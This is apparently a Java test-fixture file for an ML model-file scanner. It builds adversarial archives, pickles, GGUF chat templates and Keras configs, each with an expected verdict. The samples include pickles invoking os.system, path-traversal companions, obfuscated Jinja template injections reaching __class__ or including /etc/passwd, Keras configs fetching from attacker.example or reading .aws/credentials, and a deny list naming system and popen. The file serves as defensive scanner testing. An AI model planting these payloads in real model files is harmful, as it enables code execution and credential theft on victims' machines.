package dev.mlsec.scan.adversarial;

import static dev.mlsec.scan.adversarial.AdversarialCorpus.benignDict;
import static dev.mlsec.scan.adversarial.AdversarialCorpus.osSystem;
import static dev.mlsec.scan.adversarial.Containers.cat;
import static dev.mlsec.scan.adversarial.Containers.entry;
import static dev.mlsec.scan.adversarial.Containers.zip;
import static dev.mlsec.scan.adversarial.Containers.zlib;
import static dev.mlsec.scan.adversarial.PickleBytes.p;

import dev.mlsec.scan.ScanLimits;
import dev.mlsec.scan.Verdict;
import dev.mlsec.scan.adversarial.AdversarialCorpus.Case;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
import org.apache.commons.compress.archivers.zip.Zip64Mode;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.apache.commons.compress.compressors.lz4.FramedLZ4CompressorOutputStream;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;

/**
 * Adversarial cases of the archive and compression formats the loaders accept (7z, LZ4 frames,
 * joblib's legacy ZF, ZIP64, data descriptors, hidden entries, second directories, polyglots).
 */
final class FormatCases {
  private final List<Case> cases = new ArrayList<>();
  private static final Verdict M = Verdict.MALICIOUS;
  private static final Verdict S = Verdict.SUSPICIOUS;
  private static final Verdict I = Verdict.INCONCLUSIVE;
  private static final Verdict C = Verdict.CLEAN;

  private FormatCases() {}

  static List<Case> all() {
    FormatCases f = new FormatCases();
    f.sevenZip();
    f.lz4();
    f.zfile();
    f.joblibCompanions();
    f.zipStructure();
    f.ggufTemplates();
    f.keras();
    return f.cases;
  }

  private void add(String name, byte[] data, Verdict v, String rule) {
    cases.add(new Case(name, data, v, rule, ScanLimits.defaults()));
  }

  private void add(String name, byte[] data, Verdict v, String rule, ScanLimits limits) {
    cases.add(new Case(name, data, v, rule, limits));
  }

  // ---------------------------------------------------------------- 7z

  static byte[] sevenZip(Object... nameData) {
    try (SeekableInMemoryByteChannel ch = new SeekableInMemoryByteChannel()) {
      try (SevenZOutputFile z = new SevenZOutputFile(ch)) {
        for (int i = 0; i < nameData.length; i += 2) {
          SevenZArchiveEntry e = new SevenZArchiveEntry();
          e.setName((String) nameData[i]);
          e.setSize(((byte[]) nameData[i + 1]).length);
          z.putArchiveEntry(e);
          z.write((byte[]) nameData[i + 1]);
          z.closeArchiveEntry();
        }
        z.finish();
      }
      return Arrays.copyOf(ch.array(), (int) ch.size());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private void sevenZip() {
    byte[] evil = osSystem(2);
    add("seven_zip_evil.7z", sevenZip("model.pkl", evil), M, "pickle.exec");
    add("seven_zip_benign.7z", sevenZip("model.pkl", benignDict()), C, "");
    // the evil member hides behind a benign one in the same solid block
    add(
        "seven_zip_second_member_evil.7z",
        sevenZip("a.pkl", benignDict(), "b.bin", evil),
        M,
        "pickle.exec");
    add(
        "seven_zip_torch_zip_inside.7z",
        sevenZip("model.pt", zip(entry("archive/data.pkl", evil))),
        M,
        "pickle.exec");
    add(
        "seven_zip_traversal.7z",
        sevenZip("../../model.pkl", benignDict()),
        S,
        "zip.path-traversal");
    byte[] whole = sevenZip("model.pkl", evil);
    add("seven_zip_truncated.7z", Arrays.copyOf(whole, whole.length - 10), I, "scan.unreadable");
    add(
        "seven_zip_declared_bomb.7z",
        sevenZip("zeros.bin", new byte[200_000]),
        I,
        "scan.limit",
        ScanLimits.defaults().withMaxDecompressedBytes(100_000));
    add(
        "seven_zip_nested_7z.7z",
        sevenZip("inner.7z", sevenZip("model.pkl", evil)),
        M,
        "pickle.exec");
  }

  // ---------------------------------------------------------------- lz4

  static byte[] lz4Frame(byte[] data) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (OutputStream z = new FramedLZ4CompressorOutputStream(out)) {
      z.write(data);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  private void lz4() {
    byte[] evil = osSystem(2);
    add("lz4_evil.joblib", lz4Frame(evil), M, "pickle.exec");
    add("lz4_benign.joblib", lz4Frame(benignDict()), C, "");
    // two concatenated frames: lz4.frame reads both
    add(
        "lz4_second_frame_evil.joblib",
        cat(lz4Frame(benignDict()), lz4Frame(evil)),
        M,
        "pickle.exec");
    byte[] frame = lz4Frame(evil);
    add("lz4_truncated.joblib", Arrays.copyOf(frame, frame.length - 6), I, "scan.unreadable");
    add(
        "lz4_bomb.joblib",
        lz4Frame(new byte[2_000_000]),
        I,
        "scan.limit",
        ScanLimits.defaults().withMaxDecompressedBytes(1_000_000));
    add("lz4_in_zip.pt", zip(entry("archive/data.pkl", lz4Frame(evil))), M, "pickle.exec");
  }

  // ---------------------------------------------------------------- joblib ZF

  static byte[] zfile(byte[] data, boolean oldSpace) {
    String len = String.format("%-19s", "0x" + Integer.toHexString(data.length));
    return cat(
        ("ZF" + len + (oldSpace ? " " : "")).getBytes(StandardCharsets.US_ASCII), zlib(data));
  }

  private void zfile() {
    byte[] evil = osSystem(2);
    add("zf_evil.pkl", zfile(evil, false), M, "pickle.exec");
    add("zf_evil_old_space.pkl", zfile(evil, true), M, "pickle.exec");
    add("zf_benign.pkl", zfile(benignDict(), false), C, "");
    byte[] z = zfile(evil, false);
    add("zf_truncated.pkl", Arrays.copyOf(z, z.length - 8), I, "scan.unreadable");
  }

  // ---------------------------------------------------------------- joblib companion files

  /**
   * A legacy joblib record (joblib &lt; 0.10) as {@code pickle.dumps} writes it: NEWOBJ of the
   * wrapper class, then BUILD with its state dict, whose {@code filename} joblib joins to the
   * dump's directory and loads.
   */
  static byte[] companion(String module, String cls, String filename) {
    return p().proto(2)
        .global(module, cls)
        .emptyTuple()
        .raw(0x81)
        .emptyDict()
        .mark()
        .binunicode("filename")
        .binunicode(filename)
        .binunicode("allow_mmap")
        .raw(0x88)
        .raw('u')
        .raw('b')
        .stop()
        .bytes();
  }

  /** The same record through copyreg._reconstructor, as protocols 0 and 1 write it. */
  static byte[] companionReconstructor(String filename) {
    return p().global("copy_reg", "_reconstructor")
        .mark()
        .global("joblib.numpy_pickle", "NDArrayWrapper")
        .global("__builtin__", "object")
        .none()
        .tuple()
        .reduce()
        .mark()
        .ascii("S'filename'\n")
        .ascii("S'" + filename + "'\n")
        .raw('d')
        .raw('b')
        .stop()
        .bytes();
  }

  private void joblibCompanions() {
    String rule = "joblib.companion-path";
    // NDArrayWrapper's companion is np.load'ed with allow_pickle=True (a nested unpickle):
    // malicious; ZNDArrayWrapper's is zlib data read into an array: a file read, suspicious
    String np = "joblib.numpy_pickle";
    add("companion_dotdot.pkl", companion(np, "NDArrayWrapper", "../../home/u/evil.npy"), M, rule);
    add("companion_absolute.pkl", companion(np, "NDArrayWrapper", "/tmp/evil.npy"), M, rule);
    add("companion_inner_dotdot.pkl", companion(np, "NDArrayWrapper", "a/../../x.npy"), M, rule);
    add("companion_backslash.pkl", companion(np, "NDArrayWrapper", "..\\x.npy"), M, rule);
    add("companion_drive.pkl", companion(np, "NDArrayWrapper", "C:evil.npy"), M, rule);
    add(
        "companion_compat_z.pkl",
        companion("joblib.numpy_pickle_compat", "ZNDArrayWrapper", "../x.npy.z"),
        S,
        rule);
    add(
        "companion_sklearn_vendored.pkl",
        companion("sklearn.externals.joblib.numpy_pickle", "NDArrayWrapper", "/etc/x.npy"),
        M,
        rule);
    add("companion_reconstructor_p0.pkl", companionReconstructor("../x.npy"), M, rule);
    add("companion_zf.pkl", zfile(companion(np, "NDArrayWrapper", "../x.npy"), false), M, rule);
    // the name joblib itself writes: the companion next to the dump
    add("companion_sibling.pkl", companion(np, "NDArrayWrapper", "model.pkl_01.npy"), C, "");
    add("companion_sibling_p0.pkl", companionReconstructor("model.pkl_01.npy"), C, "");
    // getattr of an instance rebuilt by copyreg._reconstructor (protocols 0 and 1) resolves only
    // to a recorded bound method of its class (poisson_gen._entropy), nothing else of it
    add("getattr_reconstructed_recorded.pkl", getattrOfRebuilt("_entropy"), C, "");
    add("getattr_reconstructed_other.pkl", getattrOfRebuilt("__init__"), M, "pickle.import");
    // another public bound method is a value until it is called (blind3: values never called)
    add("getattr_reconstructed_unrecorded.pkl", getattrOfRebuilt("rvs", false), C, "");
    add("getattr_reconstructed_called.pkl", getattrOfRebuilt("rvs", true), M, "pickle.gadget");
    add(
        "getattr_reconstructed_denied.pkl",
        getattrOfRebuilt("read_text", false),
        M,
        "pickle.import");
    // a property runs its getter on getattr, called or not (poisson_gen.random_state); a class
    // with its own __getattr__ (DataFrame) runs it for any name that is none of its methods
    add(
        "getattr_reconstructed_property.pkl",
        getattrOfRebuilt("random_state"),
        S,
        "pickle.unknown-call");
    String frame = "pandas.core.frame";
    add("getattr_frame_method.pkl", getattrOf(frame, "DataFrame", "sum"), C, "");
    add("getattr_frame_property.pkl", getattrOf(frame, "DataFrame", "T"), S, "pickle.unknown-call");
    add(
        "getattr_frame_column.pkl",
        getattrOf(frame, "DataFrame", "price"),
        S,
        "pickle.unknown-call");
    // a private name is a bound method only when class_attrs.py recorded it as a plain method of
    // the class (blind4/5: scipy's qmc engines keep getattr(self, '_hypersphere_volume_sample'),
    // a lazy torch module getattr(self, '_infer_parameters')); any other private name, a dunder, a
    // denied name, a call of it or the same name on a class the allowlist lacks stays flagged
    String qmc = "scipy.stats._qmc";
    add(
        "getattr_private_recorded.pkl",
        getattrOf(qmc, "PoissonDisk", "_hypersphere_volume_sample"),
        C,
        "");
    add(
        "getattr_private_recorded_hooked_class.pkl",
        getattrOf("torch.nn.modules.linear", "LazyLinear", "_infer_parameters"),
        C,
        "");
    add(
        "getattr_private_unknown.pkl",
        getattrOf(qmc, "PoissonDisk", "_no_such_method"),
        M,
        "pickle.import");
    add(
        "getattr_private_called.pkl",
        calledWith(getattrOfObject(qmc, "PoissonDisk", "_hypersphere_volume_sample"), "I1"),
        M,
        "pickle.gadget");
    for (String name : List.of("__reduce__", "__reduce_ex__", "__class__", "__init__", "__dict__"))
      add(
          "getattr_private_dunder" + name + ".pkl",
          getattrOf(qmc, "PoissonDisk", name),
          M,
          "pickle.import");
    for (String name : List.of("system", "eval", "exec", "os", "popen"))
      add(
          "getattr_private_denied_" + name + ".pkl",
          getattrOf(qmc, "PoissonDisk", name),
          M,
          "pickle.import");
    // a private method name of an allowlisted class on an object of a class the allowlist lacks
    add(
        "getattr_private_not_allowlisted.pkl",
        getattrOf("subprocess", "Popen", "_execute_child"),
        M,
        "pickle.import");
    // a class with its own __getattr__ (DataFrame) does not run it for its own methods; one with
    // its own __getattribute__ (decimal.Context) runs that for every name: no private name is
    // known plain
    add("getattr_private_frame.pkl", getattrOf(frame, "DataFrame", "_reduce"), C, "");
    add(
        "getattr_private_getattribute_class.pkl",
        getattrOf("decimal", "Context", "_apply"),
        M,
        "pickle.import");
    // the same names fetched from the class itself (blind4: SWALR's state_dict keeps
    // getattr(SWALR, '_cosine_anneal')): the function as a value, judged when called; nothing
    // else of the class, nothing of a class the allowlist lacks or whose metaclass hooks lookup
    String swa = "torch.optim.swa_utils";
    add(
        "getattr_class_private_recorded.pkl",
        getattrOfClass(swa, "SWALR", "_cosine_anneal"),
        C,
        "");
    add(
        "getattr_class_private_called.pkl",
        calledWith(getattrOfClassBytes(swa, "SWALR", "_cosine_anneal"), "I1", "I2", "I0"),
        M,
        "pickle.gadget");
    for (String[] f :
        new String[][] {
          {"unknown", swa, "SWALR", "_no_such_function"},
          {"dunder", swa, "SWALR", "__reduce_ex__"},
          {"not_allowlisted", "subprocess", "Popen", "_execute_child"},
          {"meta_hooked", "torch._C._distributed_rpc", "PyRRef", "_serialize"}
        })
      add(
          "getattr_class_private_" + f[0] + ".pkl",
          getattrOfClass(f[1], f[2], f[3]),
          M,
          "pickle.import");
  }

  /** What {@code fn} pushes, called with protocol-0 arguments ({@code "I1"}, ...), then STOP. */
  private static byte[] calledWith(PickleBytes fn, String... args) {
    PickleBytes b = fn.mark();
    for (String a : args) b = b.ascii(a + "\n");
    return b.tuple().reduce().stop().bytes();
  }

  /** getattr(module.cls, attr): the class itself, uncalled. */
  private static byte[] getattrOfClass(String module, String cls, String attr) {
    return getattrOfClassBytes(module, cls, attr).stop().bytes();
  }

  private static PickleBytes getattrOfClassBytes(String module, String cls, String attr) {
    return p().global("__builtin__", "getattr")
        .mark()
        .global(module, cls)
        .ascii("S'" + attr + "'\n")
        .tuple()
        .reduce();
  }

  /** getattr(an object of module.cls rebuilt by copyreg._reconstructor, attr), uncalled. */
  private static byte[] getattrOf(String module, String cls, String attr) {
    return getattrOfObject(module, cls, attr).stop().bytes();
  }

  private static PickleBytes getattrOfObject(String module, String cls, String attr) {
    return p().global("__builtin__", "getattr")
        .mark()
        .global("copy_reg", "_reconstructor")
        .mark()
        .global(module, cls)
        .global("__builtin__", "object")
        .none()
        .tuple()
        .reduce()
        .ascii("S'" + attr + "'\n")
        .tuple()
        .reduce();
  }

  private static byte[] getattrOfRebuilt(String attr) {
    return getattrOfRebuilt(attr, false);
  }

  /** getattr(rebuilt poisson_gen, attr), then, when called, attr('x'). */
  private static byte[] getattrOfRebuilt(String attr, boolean called) {
    PickleBytes b = getattrOfObject("scipy.stats._discrete_distns", "poisson_gen", attr);
    if (called) b = b.mark().ascii("S'x'\n").tuple().reduce();
    return b.stop().bytes();
  }

  // ---------------------------------------------------------------- zip structure

  /** A zip written by commons-compress: zip64 records always, or data descriptors (streamed). */
  static byte[] commonsZip(boolean zip64, boolean stored, String name, byte[] data) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipArchiveOutputStream z = new ZipArchiveOutputStream(out)) {
      if (zip64) z.setUseZip64(Zip64Mode.Always);
      ZipArchiveEntry e = new ZipArchiveEntry(name);
      e.setTime(0);
      if (stored) {
        e.setMethod(ZipArchiveEntry.STORED);
        e.setSize(data.length);
        java.util.zip.CRC32 c = new java.util.zip.CRC32();
        c.update(data);
        e.setCrc(c.getValue());
      }
      z.putArchiveEntry(e);
      z.write(data);
      z.closeArchiveEntry();
    } catch (IOException ex) {
      throw new UncheckedIOException(ex);
    }
    return out.toByteArray();
  }

  private static int u16(byte[] b, int i) {
    return ByteBuffer.wrap(b, i, 2).order(ByteOrder.LITTLE_ENDIAN).getShort() & 0xffff;
  }

  private static int u32(byte[] b, int i) {
    return ByteBuffer.wrap(b, i, 4).order(ByteOrder.LITTLE_ENDIAN).getInt();
  }

  /** The central directory of a comment-less zip from {@link Containers#zip}: [start, end). */
  private static int[] directory(byte[] zip) {
    int eocd = zip.length - 22;
    int cd = u32(zip, eocd + 16);
    return new int[] {cd, eocd};
  }

  private static byte[] eocd(int count, int cdSize, int cdOffset) {
    ByteBuffer b = ByteBuffer.allocate(22).order(ByteOrder.LITTLE_ENDIAN);
    b.putInt(0x06054b50).putShort((short) 0).putShort((short) 0);
    b.putShort((short) count).putShort((short) count).putInt(cdSize).putInt(cdOffset);
    b.putShort((short) 0);
    return b.array();
  }

  /** The zip's local data, then a directory that lists only its first {@code listed} entries. */
  private static byte[] listing(byte[] zip, int listed) {
    int[] d = directory(zip);
    int pos = d[0];
    for (int i = 0; i < listed; i++) pos += 46 + u16(zip, pos + 28) + u16(zip, pos + 30);
    byte[] cd = Arrays.copyOfRange(zip, d[0], pos);
    return cat(Arrays.copyOf(zip, d[0]), cd, eocd(listed, cd.length, d[0]));
  }

  private void zipStructure() {
    byte[] evil = osSystem(2);
    byte[] ok = benignDict();
    add(
        "zip64_always_evil.pt",
        commonsZip(true, false, "archive/data.pkl", evil),
        M,
        "pickle.exec");
    add("zip64_always_benign.pt", commonsZip(true, false, "archive/data.pkl", ok), C, "");
    add("zip64_stored_evil.pt", commonsZip(true, true, "archive/data.pkl", evil), M, "pickle.exec");
    add(
        "zip_data_descriptor_evil.pt",
        commonsZip(false, false, "archive/data.pkl", evil),
        M,
        "pickle.exec");
    // the directory lists the benign entry only; a streaming reader also extracts the second
    byte[] both = zip(entry("archive/data.pkl", ok), entry("archive/extra.pkl", evil));
    add("zip_hidden_entry_evil.pt", listing(both, 1), M, "zip.hidden-entry");
    byte[] twoOk = zip(entry("archive/data.pkl", ok), entry("archive/extra.pkl", ok));
    add("zip_hidden_entry_benign.pt", listing(twoOk, 1), S, "zip.hidden-entry");
    // a first directory lists both entries, the last one (which most readers use) only one
    int[] d = directory(both);
    byte[] full = Arrays.copyOfRange(both, d[0], d[1]);
    byte[] first = listing(both, 1);
    int[] d1 = directory(first);
    byte[] benignCd = Arrays.copyOfRange(first, d1[0], d1[1]);
    byte[] secondDir =
        cat(
            Arrays.copyOf(both, d[0]),
            full,
            eocd(2, full.length, d[0]),
            benignCd,
            eocd(1, benignCd.length, d[0] + full.length + 22));
    add("zip_second_directory_evil.pt", secondDir, M, "zip.second-directory");
    byte[] one = zip(entry("archive/data.pkl", ok));
    int[] o = directory(one);
    byte[] oneCd = Arrays.copyOfRange(one, o[0], o[1]);
    byte[] twice = cat(one, oneCd, eocd(1, oneCd.length, o[0]));
    add("zip_second_directory_benign.pt", twice, S, "zip.second-directory");
    // a legacy pickle whose call comes after the zip bytes it wraps in a BINBYTES payload:
    // torch.load reads the pickle from offset 0, zip readers see the zip
    byte[] inner = zip(entry("archive/data.pkl", ok));
    int[] in = directory(inner);
    byte[] locals = Arrays.copyOf(inner, in[0]);
    PickleBytes head = p().proto(2).global("mymod", "run").raw('B').le(locals.length, 4);
    byte[] headBytes = head.bytes();
    byte[] tail = p().pop().binunicode("x").tuple1().reduce().stop().bytes();
    byte[] cd = Arrays.copyOfRange(inner, in[0], in[1]);
    // the directory's offsets are relative to the zip data; shift them past the pickle head
    ByteBuffer.wrap(cd, 42, 4).order(ByteOrder.LITTLE_ENDIAN).putInt(headBytes.length);
    int cdAt = headBytes.length + locals.length + tail.length;
    add(
        "polyglot_legacy_pickle_wraps_zip.pt",
        cat(headBytes, locals, tail, cd, eocd(1, cd.length, cdAt)),
        S,
        "pickle.unknown-call");
  }

  // ---------------------------------------------------------------- GGUF chat templates

  private static byte[] gguf(String template) {
    return new Containers.Gguf(0, 2)
        .kvString("general.architecture", "llama")
        .kvString("tokenizer.chat_template", template)
        .bytes();
  }

  /** Templates that reach Python internals without a literal '__' or 'globals'. */
  private void ggufTemplates() {
    String loop = "{% for m in messages %}{{ m['content'] }}{% endfor %}";
    add(
        "gguf_tpl_concat_name.gguf",
        gguf(loop + "{{ ()|attr('_' ~ '_cla' ~ 'ss_' ~ '_') }}"),
        M,
        "gguf.template-injection");
    add(
        "gguf_tpl_join_name.gguf",
        gguf("{{ ()|attr(['_','_','class','_','_']|join) }}"),
        M,
        "gguf.template-injection");
    add(
        "gguf_tpl_set_variable.gguf",
        gguf("{% set u = '_' %}{% set n = u ~ u ~ 'init' ~ u ~ u %}{{ cycler[n] }}"),
        M,
        "gguf.template-injection");
    add(
        "gguf_tpl_percent_format.gguf",
        gguf("{{ ()|attr('%c%cclass%c%c' % (95,95,95,95)) }}"),
        M,
        "gguf.template-injection");
    add(
        "gguf_tpl_reverse.gguf",
        gguf("{{ ()|attr('__ssalc__'|reverse) }}"),
        M,
        "gguf.template-injection");
    add(
        "gguf_tpl_unicode_escape.gguf",
        gguf("{{ x['\\u005f\\u005fclass\\u005f\\u005f'] }}"),
        M,
        "gguf.template-injection");
    add(
        "gguf_tpl_str_format_field.gguf",
        gguf("{{ ('{0.' ~ '_' ~ '_class_' ~ '_}').format(x) }}"),
        M,
        "gguf.template-injection");
    add(
        "gguf_tpl_map_attribute.gguf",
        gguf("{{ messages|map(attribute='_' * 2 ~ 'class' ~ '_' * 2)|list }}"),
        M,
        "gguf.template-injection");
    add(
        "gguf_tpl_block_set.gguf",
        gguf("{% set n %}_{{ '' }}_class__{% endset %}{{ ()[n] }}"),
        M,
        "gguf.template-injection");
    add(
        "gguf_tpl_python_generator.gguf",
        gguf("{{ (x for x in y).gi_frame.f_back }}"),
        I,
        "scan.unreadable");
    add("gguf_tpl_lookinside_global.gguf", gguf("{{ lipsum['x'] }}"), M, "gguf.template-injection");
    add(
        "gguf_tpl_include.gguf",
        gguf(loop + "{% include '/etc/passwd' %}"),
        S,
        "gguf.template-injection");
    add("gguf_tpl_unparseable.gguf", gguf("{{ messages[0] "), I, "scan.unreadable");
    add(
        "gguf_tpl_second_template.gguf",
        new Containers.Gguf(0, 2)
            .kvString("tokenizer.chat_template", loop)
            .kvString("tokenizer.chat_template.tool_use", "{{ ''.__class__ }}")
            .bytes(),
        M,
        "gguf.template-injection");
    add(
        "gguf_tpl_llama3_benign.gguf",
        gguf(
            "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"),
        C,
        "");
  }

  // ---------------------------------------------------------------- Keras 3

  private static final byte[] REAL_WEIGHTS = realWeights();

  /** bench/scan/blind3's h5py file of float weights (surefire runs in mlsec-scan/). */
  private static byte[] realWeights() {
    try {
      return java.nio.file.Files.readAllBytes(
          java.nio.file.Path.of("..", "bench", "scan", "blind3", "benign", "h5_weights_like.h5")
              .toAbsolutePath()
              .normalize());
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private static byte[] keras(String config, int method) {
    return zip(
        entry("metadata.json", "{\"keras_version\": \"3.10.0\"}".getBytes(StandardCharsets.UTF_8)),
        // zip's LZMA as zipfile writes it: with an end marker (flag bit 1)
        entry("config.json", config.getBytes(StandardCharsets.UTF_8))
            .method(method)
            .flags(method == 14 ? 2 : 0),
        // real h5py weights: a signature over a zero superblock is unreadable (inconclusive)
        entry("model.weights.h5", REAL_WEIGHTS));
  }

  private static String layer(String cls, String config) {
    return "{\"module\": \"keras.layers\", \"class_name\": \""
        + cls
        + "\", \"config\": "
        + config
        + ", \"registered_name\": null}";
  }

  private static String sequential(String... layers) {
    return "{\"module\": \"keras\", \"class_name\": \"Sequential\", \"config\": {\"name\": \"s\", \"layers\": ["
        + String.join(", ", layers)
        + "]}, \"registered_name\": null}";
  }

  private static String function(String module, String name) {
    return "{\"module\": \""
        + module
        + "\", \"class_name\": \"function\", \"config\": \""
        + name
        + "\", \"registered_name\": \"function\"}";
  }

  private static final String LAMBDA_CODE =
      layer(
          "Lambda",
          "{\"name\": \"l\", \"function\": {\"class_name\": \"__lambda__\", \"config\": {\"code\": \"4wEAAAAAAAAA\", \"defaults\": null, \"closure\": null}}}");

  private void keras() {
    String e = "keras.external-file";
    add(
        "keras_stringlookup_vocab_path.keras",
        keras(
            sequential(
                layer(
                    "StringLookup",
                    "{\"name\": \"v\", \"vocabulary\": \"/home/user/.aws/credentials\"}")),
            8),
        S,
        e);
    add(
        "keras_textvectorization_gs.keras",
        keras(
            sequential(
                layer(
                    "TextVectorization",
                    "{\"name\": \"t\", \"vocabulary\": \"gs://attacker-bucket/vocab.txt\"}")),
            8),
        S,
        e);
    add(
        "keras_integerlookup_url.h5",
        AdversarialCorpus.hdf5With(
            "{\"class_name\": \"Sequential\", \"config\": {\"layers\": [{\"class_name\":"
                + " \"IntegerLookup\", \"config\": {\"name\": \"i\", \"vocabulary\":"
                + " \"https://attacker.example/v.txt\"}}]}}"),
        S,
        e);
    add(
        "keras_tfsmlayer.keras",
        keras(
            sequential(
                layer(
                    "TFSMLayer",
                    "{\"name\": \"t\", \"filepath\": \"/tmp/downloaded_savedmodel\", \"call_endpoint\": \"serve\"}")),
            8),
        S,
        e);
    add(
        "keras_hub_tokenizer_proto.keras",
        keras(
            sequential(
                "{\"module\": \"keras_hub.src.tokenizers.sentence_piece_tokenizer\", \"class_name\": \"SentencePieceTokenizer\", \"config\": {\"proto\": \"/etc/passwd\"}, \"registered_name\": \"keras_hub>SentencePieceTokenizer\"}"),
            8),
        S,
        e);
    add(
        "keras_origin_url.keras",
        keras(
            sequential(
                layer(
                    "Dense",
                    "{\"name\": \"d\", \"units\": 1, \"origin\": \"https://attacker.example/payload.tar.gz\"}")),
            8),
        S,
        e);
    String u = "keras.unsafe-function";
    // CVE-2025-9906: a Lambda calling keras.models.load_model on a second file, safe mode off
    add(
        "keras_lambda_load_model.keras",
        keras(
            sequential(
                layer(
                    "Lambda",
                    "{\"name\": \"x\", \"function\": "
                        + function("keras.models", "load_model")
                        + ", \"arguments\": {\"safe_mode\": false}}")),
            8),
        M,
        u);
    add(
        "keras_enable_unsafe.keras",
        keras(
            sequential(
                layer(
                    "Lambda",
                    "{\"name\": \"x\", \"function\": "
                        + function("keras.config", "enable_unsafe_deserialization")
                        + "}")),
            8),
        M,
        u);
    // CVE-2025-8747: keras.utils.get_file reached from a config
    add(
        "keras_get_file_function.keras",
        keras(
            sequential(
                layer(
                    "Lambda",
                    "{\"name\": \"x\", \"function\": "
                        + function("keras.utils", "get_file")
                        + ", \"arguments\": {\"origin\": \"https://attacker.example/x\"}}")),
            8),
        M,
        u);
    String l = "keras.lambda-code";
    add(
        "keras_lambda_in_timedistributed.keras",
        keras(
            sequential(
                layer("TimeDistributed", "{\"name\": \"td\", \"layer\": " + LAMBDA_CODE + "}")),
            8),
        M,
        l);
    add(
        "keras_lambda_in_bidirectional.keras",
        keras(
            sequential(
                layer(
                    "Bidirectional",
                    "{\"name\": \"b\", \"layer\": "
                        + LAMBDA_CODE
                        + ", \"backward_layer\": "
                        + layer("LSTM", "{\"units\": 2}")
                        + "}")),
            8),
        M,
        l);
    add(
        "keras_lambda_in_nested_sequential.keras",
        keras(
            "{\"module\": \"keras\", \"class_name\": \"Functional\", \"config\": {\"layers\": ["
                + sequential(LAMBDA_CODE)
                + "]}}",
            8),
        M,
        l);
    add("keras_config_bzip2_lambda.keras", keras(sequential(LAMBDA_CODE), 12), M, l);
    add("keras_config_lzma_lambda.keras", keras(sequential(LAMBDA_CODE), 14), M, l);
    add(
        "keras_stringlookup_inline_benign.keras",
        keras(
            sequential(
                layer("StringLookup", "{\"name\": \"v\", \"vocabulary\": [\"a\", \"b\"]}"),
                layer(
                    "TimeDistributed",
                    "{\"name\": \"td\", \"layer\": " + layer("Dense", "{\"units\": 2}") + "}")),
            12),
        C,
        "");
  }
}
